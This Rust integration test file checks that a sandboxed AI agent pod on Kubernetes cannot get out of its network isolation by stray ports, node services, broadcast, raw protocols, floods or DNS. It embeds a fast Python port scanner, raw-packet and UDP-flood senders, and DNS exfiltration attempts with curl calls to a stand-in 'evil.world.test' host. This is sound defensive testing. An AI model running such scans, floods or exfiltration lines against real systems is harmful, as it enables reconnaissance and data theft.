//! Ways out that are no ordinary connection: other ports, the node, protocols beside TCP and UDP, names, floods.

use std::net::IpAddr;
use std::time::Duration;

use agentsandbox_crds::names;
use agentsandbox_tests::exec::exec;
use agentsandbox_tests::sandbox::READY_WITHIN;
use agentsandbox_tests::{Namespace, Rig, Sandbox, eventually, with_namespace};
use agentsandbox_world::journal::Protocol;
use k8s_openapi::api::core::v1::Service;
use k8s_openapi::api::networking::v1::NetworkPolicy;
use kube::Api;
use serde_json::{Value, json};
use xtask::cluster::network::{API_SERVICE, CLUSTER_DNS, NODE, WORLD_DNS};
use xtask::shell;

use crate::{fixtures, lenient};

const SEEN_WITHIN: Duration = Duration::from_secs(30);
/// Where the world counts what arrives.
const WORLD: &str = "93.184.215.14";

pub(crate) async fn started(ns: &Namespace, pod: &Value) -> IpAddr {
    ns.apply(&pod.to_string()).await.unwrap();
    address(ns, pod["metadata"]["name"].as_str().unwrap()).await
}

pub(crate) async fn address(ns: &Namespace, pod: &str) -> IpAddr {
    let pod = ns.pod_ready(pod, READY_WITHIN).await;
    pod.status.and_then(|s| s.pod_ip).expect("the pod has an address").parse().expect("an address is one")
}

pub(crate) async fn service_address(ns: &Namespace, name: &str) -> String {
    let services: Api<Service> = Api::namespaced(ns.client.clone(), &ns.name);
    services.get(name).await.unwrap().spec.and_then(|spec| spec.cluster_ip).expect("a Service has an address")
}

/// Connects to ranges of ports, thousands at a time, and prints those that were open.
const SCAN: &str = "
import errno, resource, select, socket, sys, time
most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 20000), most))
host, found = sys.argv[1], []
ranges = [map(int, ports.split('-')) for ports in sys.argv[2:]]
ports = [port for first, last in ranges for port in range(first, last + 1)]
for begin in range(0, len(ports), 8192):
    poll, waiting = select.epoll(), {}
    for port in ports[begin:begin + 8192]:
        s = socket.socket()
        s.setblocking(False)
        code = s.connect_ex((host, port))
        if code == errno.EINPROGRESS:
            poll.register(s, select.EPOLLOUT)
            waiting[s.fileno()] = (s, port)
        elif code == 0:
            found.append(port)
    end = time.monotonic() + 2
    while waiting and time.monotonic() < end:
        for fd, _ in poll.poll(0.1):
            s, port = waiting.pop(fd)
            poll.unregister(fd)
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                found.append(port)
            s.close()
    for s, _ in waiting.values():
        s.close()
print(*sorted(found))
";

/// The open ones of these ports, as a pod sees them.
pub(crate) async fn open(ns: &Namespace, pod: &str, host: &str, ports: &[&str]) -> Vec<u16> {
    let mut command = vec!["python3", "-c", SCAN, host];
    command.extend(ports);
    let found = exec(&ns.pods(), pod, "agent", &command).await.ok().stdout;
    found.split_whitespace().map(|port| port.parse().expect("a port is a number")).collect()
}

async fn o_n4_by_pod_and_by_service_only_the_proxys_data_ports_pass(rig: &Rig, ns: &Namespace) {
    let mut data = vec![
        names::PORT_DNS,
        names::PORT_HTTP,
        names::PORT_TLS,
        names::PORT_SOCKS,
        names::PORT_HTTP_PROXY,
        names::PORT_ENROLMENT,
        names::PORT_BASE_URL,
    ];
    data.sort_unstable();
    let proxy = address(ns, "r-proxy").await.to_string();
    for host in [&proxy, &service_address(ns, "r-proxy").await] {
        eventually("the data ports answer, and no other", READY_WITHIN, || async {
            let open = open(ns, "r-agent", host, &["1-16384"]).await;
            let beyond: Vec<_> = open.iter().filter(|port| !data.contains(port)).collect();
            assert!(beyond.is_empty(), "{host}: {beyond:?}");
            // One that is late on a busy node is no wall.
            if open == data { Ok(()) } else { Err(format!("{host}: {open:?}")) }
        })
        .await;
    }
    // The admin port is open to who may: it is the wall that shuts it.
    let raw = format!("/api/v1/namespaces/{}/pods/r-proxy:{}/proxy/healthz", ns.name, names::PORT_ADMIN);
    shell::output(&mut rig.cluster.kubectl(&["get", "--raw", &raw]).unwrap()).unwrap();
}

/// Ports of the node on which a pod of the host's own network answers: below the range of NodePorts, and within it.
const HOST_PORT: u16 = 9100;
/// From the part of the range out of which no Service is given a port by itself.
const HOST_PORT_IN_RANGE: u16 = 30_050;

/// What the node serves: itself, by a pod of its own network, and a pod by the NodePort that is returned.
async fn node_serves(ns: &Namespace) -> u16 {
    // Another run's pod may hold a port for a moment longer.
    let answer = [HOST_PORT, HOST_PORT_IN_RANGE]
        .map(|port| format!("(until python3 -m http.server {port}; do sleep 1; done) & "))
        .concat();
    let mut host = fixtures::plain("host", &(answer + "wait"));
    host["spec"]["hostNetwork"] = json!(true);
    started(ns, &host).await;
    started(ns, &fixtures::plain("served", "exec python3 -m http.server 8000")).await;
    let service = json!({
        "apiVersion": "v1", "kind": "Service", "metadata": {"name": "served"},
        "spec": {"type": "NodePort", "selector": {"app": "served"},
                 "ports": [{"port": 8000, "targetPort": 8000}]},
    });
    ns.apply(&service.to_string()).await.unwrap();
    let services: Api<Service> = Api::namespaced(ns.client.clone(), &ns.name);
    let spec = services.get("served").await.unwrap().spec.expect("a Service has a spec");
    let port = spec.ports.into_iter().flatten().find_map(|port| port.node_port);
    u16::try_from(port.expect("it was given a NodePort")).expect("a port is a number")
}

async fn o_n5_of_the_node_the_agent_reaches_no_port_but_host_ports_within_the_nodeport_range(
    ns: &Namespace,
    node_port: u16,
) {
    let all = [6443, 10250, HOST_PORT, HOST_PORT_IN_RANGE, node_port];
    let ports: Vec<String> = all.iter().map(|port| format!("{port}-{port}")).collect();
    let ports: Vec<&str> = ports.iter().map(String::as_str).collect();
    eventually("a pod without walls reaches the node", SEEN_WITHIN, || async {
        let mut seen = open(ns, "plain", NODE, &ports).await;
        seen.retain(|port| all.contains(port));
        if seen.len() == all.len() { Ok(()) } else { Err(format!("{seen:?}")) }
    })
    .await;
    // The policy engine admits this range to the node's own addresses before it asks any policy (docs/isolation.md).
    assert_eq!(open(ns, "r-agent", NODE, &["1-65535"]).await, [HOST_PORT_IN_RANGE]);
}

async fn o_c3_a_service_is_reached_until_a_policy_denies_it(ns: &Namespace) {
    let service = service_address(ns, "served").await;
    let becomes = async |wanted: &[u16]| {
        eventually(&format!("open are {wanted:?}"), SEEN_WITHIN, || async {
            let seen = open(ns, "plain", &service, &["8000-8000"]).await;
            if seen == wanted { Ok(()) } else { Err(format!("{seen:?}")) }
        })
        .await;
    };
    becomes(&[8000]).await;
    let closed = json!({"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": {"name": "closed"},
        "spec": {"podSelector": {"matchLabels": {"app": "served"}}, "policyTypes": ["Ingress"]}});
    ns.apply(&closed.to_string()).await.unwrap();
    becomes(&[]).await;
    let policies: Api<NetworkPolicy> = Api::namespaced(ns.client.clone(), &ns.name);
    policies.delete("closed", &kube::api::DeleteParams::default()).await.unwrap();
    becomes(&[8000]).await;
}

async fn o_h20_nothing_of_the_control_plane_or_the_node_answers_the_agent(ns: &Namespace, node_port: u16) {
    for (host, port) in
        [(API_SERVICE, 443), (NODE, 6443), (NODE, 10250), (NODE, HOST_PORT), (NODE, node_port)]
    {
        let port = format!("{port}-{port}");
        assert!(!open(ns, "plain", host, &[&port]).await.is_empty(), "{host} {port} answers nobody");
        assert!(open(ns, "r-agent", host, &[&port]).await.is_empty(), "{host} {port}");
    }
    for (host, port) in [(NODE, "10255-10255"), (NODE, "2379-2380"), ("127.0.0.1", "2379-2380")] {
        assert!(open(ns, "r-agent", host, &[port]).await.is_empty(), "{host} {port}");
    }
}

/// Hears what is sent to everybody on the link, and to itself.
const HEAR: &str = "exec python3 -uc '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((\"\", 5353))
s.setsockopt(0, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(\"224.0.0.251\") + socket.inet_aton(\"0.0.0.0\"))
while True:
    said, peer = s.recvfrom(512)
    print(peer[0], said.decode(), flush=True)
'";

/// Sends its first argument to each address that follows.
const TELL: &str = "
import socket, sys
for host in sys.argv[2:]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    try: s.sendto(f'{sys.argv[1]} to {host}'.encode(), (host, 5353))
    except OSError as refusal: print(host, refusal)
";

/// Sends a packet of each of these protocols to the world.
const PROTOCOLS: &str = "
import socket, sys
for number in [2, 4, 47, 50, 51, 132, 136]:
    for kind in [socket.SOCK_RAW, socket.SOCK_DGRAM]:
        try: socket.socket(socket.AF_INET, kind, number).sendto(b'x' * 20, (sys.argv[1], 9))
        except OSError: pass
";
/// Those that the node's connection tracking hands on whatever is in them.
const SENT_BY_WHO_MAY: [Protocol; 5] =
    [Protocol::Other(2), Protocol::Other(4), Protocol::Other(47), Protocol::Other(50), Protocol::Other(51)];

async fn heard(ns: &Namespace) -> Result<String, String> {
    ns.pods().logs("ear", &kube::api::LogParams::default()).await.map_err(|error| error.to_string())
}

async fn tell(ns: &Namespace, pod: &str, what: &str, hosts: &[&str]) {
    let mut command = vec!["python3", "-c", TELL, what];
    command.extend(hosts);
    exec(&ns.pods(), pod, "agent", &command).await.ok();
}

/// Protocols of which the world has seen a packet of this pod.
async fn protocols_of(rig: &Rig, source: IpAddr) -> Vec<Protocol> {
    let filter = agentsandbox_world::journal::PacketFilter { source: Some(source), ..Default::default() };
    let seen = rig.world.packets(filter).await.expect("the world answers");
    seen.counters.iter().map(|counter| counter.protocol).collect()
}

/// A pod of the node's own runtime that may send anything, with these labels.
fn raw(name: &str, labels: &Value) -> Value {
    let mut pod = fixtures::plain(name, fixtures::WAIT);
    pod["metadata"]["labels"] = labels.clone();
    pod["spec"]["securityContext"] = json!({"runAsUser": 0});
    pod["spec"]["containers"][0]["securityContext"] = json!({"capabilities": {"add": ["NET_RAW"]}});
    pod
}

async fn o_n12_no_other_protocol_and_nothing_sent_to_everybody_arrives(rig: &Rig, ns: &Namespace) {
    let labels = json!(ns.pods().get("r-agent").await.unwrap().metadata.labels);
    let free = started(ns, &raw("free", &json!({"app": "free"}))).await;
    // What gVisor does not even make, a pod of the other runtime sends from behind the same wall.
    let walled = started(ns, &raw("walled", &labels)).await;
    let ear = started(ns, &fixtures::plain("ear", HEAR)).await.to_string();
    let agent = address(ns, "r-agent").await;
    let everybody = ["224.0.0.251", "255.255.255.255", "10.244.255.255", &ear];

    eventually("the ear hears a pod without walls", SEEN_WITHIN, || async {
        tell(ns, "free", "hear me", &everybody).await;
        let heard = heard(ns).await?;
        let all = everybody.iter().all(|host| heard.contains(&format!("{free} hear me to {host}")));
        if all { Ok(()) } else { Err(heard) }
    })
    .await;
    eventually("the world sees each protocol of a pod without walls", SEEN_WITHIN, || async {
        exec(&ns.pods(), "free", "agent", &["python3", "-c", PROTOCOLS, WORLD]).await.ok();
        let seen = protocols_of(rig, free).await;
        if SENT_BY_WHO_MAY.iter().all(|one| seen.contains(one)) { Ok(()) } else { Err(format!("{seen:?}")) }
    })
    .await;

    let before = (rig.packets_from(agent).await, rig.packets_from(walled).await);
    for pod in ["r-agent", "walled"] {
        tell(ns, pod, "psst", &everybody).await;
        exec(&ns.pods(), pod, "agent", &["python3", "-c", PROTOCOLS, WORLD]).await.ok();
    }
    // What was sent later is heard, so what was sent before and got through would be there.
    tell(ns, "free", "at last", &[&ear]).await;
    let heard = eventually("the last word is heard", SEEN_WITHIN, || async {
        let heard = heard(ns).await?;
        if heard.contains("at last") { Ok(heard) } else { Err(heard) }
    })
    .await;
    assert!(!heard.contains("psst"), "{heard}");
    exec(&ns.pods(), "free", "agent", &["python3", "-c", PROTOCOLS, WORLD]).await.ok();
    assert_eq!((rig.packets_from(agent).await, rig.packets_from(walled).await), before);
    let behind = protocols_of(rig, walled).await;
    assert!(SENT_BY_WHO_MAY.iter().all(|one| !behind.contains(one)), "{behind:?}");
}

/// Entries of the node's connection table that a pod began.
fn tracked(rig: &Rig, source: IpAddr) -> usize {
    let mut list = rig.cluster.on_node("conntrack", &["-L", "-s", &source.to_string()]).unwrap();
    shell::output(&mut list).unwrap().lines().count()
}

/// More than a pod with a few open connections has, and far less than a table holds.
const FEW: usize = 100;

/// Sends as many datagrams as its second argument says, each to another port.
const FLOOD: &str = "
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for port in range(20000, 20000 + int(sys.argv[2])):
    try: s.sendto(b'x', (sys.argv[1], port))
    except OSError: pass
";

async fn o_n20_a_flood_that_is_denied_takes_no_room_in_the_connection_table(rig: &Rig, ns: &Namespace) {
    let (plain, agent) = (address(ns, "plain").await, address(ns, "r-agent").await);
    let flood = async |pod: &str, packets: &str| {
        exec(&ns.pods(), pod, "agent", &["python3", "-c", FLOOD, WORLD, packets]).await.ok();
    };
    flood("plain", "2000").await;
    let of_plain = tracked(rig, plain);
    assert!(of_plain > FEW, "a pod without walls takes no room either: {of_plain}");
    flood("r-agent", "40000").await;
    open(ns, "r-agent", WORLD, &["20000-28000"]).await;
    let of_agent = tracked(rig, agent);
    eprintln!("tracked: {of_plain} of 2000 flows without walls, {of_agent} of 48000 behind them");
    assert!(of_agent < FEW, "{of_agent} entries of what was denied");
    let answer =
        ns.handle("r").sh("curl -sS -m 20 -o /dev/null -w '%{http_code}' http://a.ok.world.test/").await;
    assert_eq!(answer.stdout, "200", "{answer:?}");
}

/// Asks each server for a name: over UDP, over TCP, and where TLS or multicast would be.
const ASK: &str = "
import socket, struct, sys
name, servers = sys.argv[1], sys.argv[2:]
question = b'\\x12\\x34\\x01\\x00\\x00\\x01' + b'\\0' * 6 + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0\\x00\\x01\\x00\\x01'
for server in servers:
    for port in [53, 5353]:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5)
        try: s.sendto(question, (server, port)); print(server, port, s.recv(512)[3] & 15)
        except OSError: pass
    for port in [53, 853]:
        s = socket.socket(); s.settimeout(0.5)
        try: s.connect((server, port)); s.send(struct.pack('!H', len(question)) + question); print(server, 'tcp', port, s.recv(512)[5] & 15)
        except (OSError, IndexError): pass
";

async fn questions_with(rig: &Rig, text: &str) -> Vec<String> {
    let all = rig.world.dns().await.expect("the world answers");
    all.entries.into_iter().map(|question| question.name).filter(|name| name.contains(text)).collect()
}

async fn o_n24_no_question_of_the_agent_reaches_a_name_server(rig: &Rig, ns: &Namespace, agent: &Sandbox) {
    let data = format!("exfil{}", ns.name.replace('-', ""));
    let name = format!("{data}.evil.world.test");
    let servers = [WORLD_DNS, CLUSTER_DNS, "1.1.1.1", "8.8.8.8", "224.0.0.251", NODE];
    let ask = |name: &str| {
        let mut command = vec!["python3".to_owned(), "-c".to_owned(), ASK.to_owned(), name.to_owned()];
        command.extend(servers.map(str::to_owned));
        command
    };
    let command = ask(&format!("{data}-control.evil.world.test"));
    let command: Vec<&str> = command.iter().map(String::as_str).collect();
    exec(&ns.pods(), "plain", "agent", &command).await.ok();
    assert!(!questions_with(rig, &data).await.is_empty(), "a pod without walls can ask nobody either");

    let command = ask(&name);
    let command: Vec<&str> = command.iter().map(String::as_str).collect();
    assert_eq!(agent.exec(&command).await.ok().stdout, "", "a name server answered");
    for line in [
        format!("getent hosts {name}"),
        format!("curl -sS -m 20 http://{name}/"),
        format!("curl -sS -m 20 https://{name}/"),
        format!("curl -sS -m 20 --noproxy '*' https://{name}/"),
        format!("curl -sS -m 20 -x socks5h://proxy:1080 http://{name}/"),
        format!("curl -sSf -m 20 'https://dns.evil.world.test/dns-query?name={name}'"),
    ] {
        agent.sh(&line).await;
    }
    // The proxy asks for what is allowed: its question comes after all that it did not ask.
    let allowed = format!("{data}-allowed.ok.world.test");
    agent.sh(&format!("curl -sS -m 20 -o /dev/null http://{allowed}/")).await.ok();
    assert!(!questions_with(rig, &allowed).await.is_empty(), "the proxy's questions are not seen");
    let asked = questions_with(rig, &data).await;
    let of_agent: Vec<_> =
        asked.iter().filter(|name| !name.contains("-control.") && !name.contains("-allowed.")).collect();
    assert!(of_agent.is_empty(), "{of_agent:?}");
}

#[tokio::test]
async fn from_the_agent_every_other_way_is_closed() {
    let rig = Rig::beside().await;
    with_namespace(&rig, "routes", async |ns| {
        let rule = "{host: \"*.ok.world.test\", scheme: Http, ports: [80]}";
        let agent = ns.sandbox("r", &fixtures::sleeper("r", fixtures::AGENT_IMAGE, "Set", &[rule])).await;
        agent.ready().await;
        ns.unrestricted().await;
        started(&ns, &fixtures::plain("plain", fixtures::WAIT)).await;
        let node_port = node_serves(&ns).await;

        o_n4_by_pod_and_by_service_only_the_proxys_data_ports_pass(&rig, &ns).await;
        o_n5_of_the_node_the_agent_reaches_no_port_but_host_ports_within_the_nodeport_range(&ns, node_port)
            .await;
        o_h20_nothing_of_the_control_plane_or_the_node_answers_the_agent(&ns, node_port).await;
        o_c3_a_service_is_reached_until_a_policy_denies_it(&ns).await;
        o_n12_no_other_protocol_and_nothing_sent_to_everybody_arrives(&rig, &ns).await;
        o_n20_a_flood_that_is_denied_takes_no_room_in_the_connection_table(&rig, &ns).await;
        o_n24_no_question_of_the_agent_reaches_a_name_server(&rig, &ns, &agent).await;
    })
    .await;
}

/// A rule of the host that lets ICMP of a pod, or of all, through, as a host without any rule against it would; gone when dropped.
pub(crate) struct IcmpOpen<'rig> {
    rig: &'rig Rig,
    source: Option<String>,
}

impl<'rig> IcmpOpen<'rig> {
    pub(crate) fn to(rig: &'rig Rig, source: IpAddr) -> Self {
        Self::for_source(rig, Some(source.to_string()))
    }

    fn to_all(rig: &'rig Rig) -> Self {
        Self::for_source(rig, None)
    }

    fn for_source(rig: &'rig Rig, source: Option<String>) -> Self {
        let open = Self { rig, source };
        open.rule("-I").expect("the rule can be made");
        open
    }

    fn rule(&self, verb: &str) -> xtask::Result<String> {
        let mut rule = vec!["-t", "raw", verb, "PREROUTING", "-p", "icmp"];
        rule.extend(self.source.iter().flat_map(|source| ["-s", source]));
        rule.extend(["-j", "ACCEPT"]);
        shell::output(&mut self.rig.cluster.on_node("iptables", &rule)?)
    }
}

impl Drop for IcmpOpen<'_> {
    fn drop(&mut self) {
        let _gone = self.rule("-D");
    }
}

async fn echoes_from(rig: &Rig, source: IpAddr) -> usize {
    protocols_of(rig, source).await.into_iter().filter(|one| *one == Protocol::Icmp).count()
}

#[tokio::test]
async fn o_n6_where_the_host_lets_icmp_out_the_fence_says_so_and_no_agent_starts() {
    // Every pod of the host is let through meanwhile.
    let rig = Rig::alone().await;
    with_namespace(&rig, "icmp", async |ns| {
        let open = IcmpOpen::to_all(&rig);
        let class = json!({"isolation": "GVisor", "runtimeClassName": "gvisor"});
        let sandbox = lenient::sandbox(&rig, &ns, class).await;
        lenient::refuses(&ns, &sandbox, "icmp").await;
        let pod = ns.pods().get("open-agent").await.unwrap().status.and_then(|status| status.pod_ip);
        let pod = pod.expect("a fence that ran has an address").parse().expect("an address is one");
        assert!(echoes_from(&rig, pod).await > 0, "no echo request went out");
        drop(open);
        sandbox.ready().await;
        lenient::class_gone(&ns).await;
    })
    .await;
}
